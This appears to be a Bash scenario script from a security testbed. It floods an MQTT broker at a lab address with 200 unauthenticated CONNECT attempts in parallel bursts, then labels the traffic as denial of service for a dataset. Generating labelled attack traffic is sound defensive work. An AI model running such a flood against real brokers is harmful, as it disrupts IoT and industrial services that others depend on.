# MQTT CONNECT flood: 200 connections to the broker in parallel batches of 20 (mosquitto_pub,
# no credentials; the broker refuses each).
DEFAULT_DURATION=30
attack_mqtt_connect_flood() {
  local t0 t1 b i burst
  t0=$(now)
  for b in $(seq 0 9); do
    burst=()
    for i in $(seq 1 20); do
      run_in attacker mqtt-flood 5 mosquitto_pub -h 10.10.3.2 -i "flood$b-$i" -t ward/x -m x &
      burst+=("$!")
    done
    wait "${burst[@]}"
  done
  t1=$(now)
  label mqtt_connect_flood T0814 attacker broker "$t0" "$t1" \
    "200 MQTT CONNECTs from 10.10.9.66 in 10 bursts of 20 parallel connections"
}
scenario_run() {
  start_ward "$1"
  sleep 5
  attack_mqtt_connect_flood
}
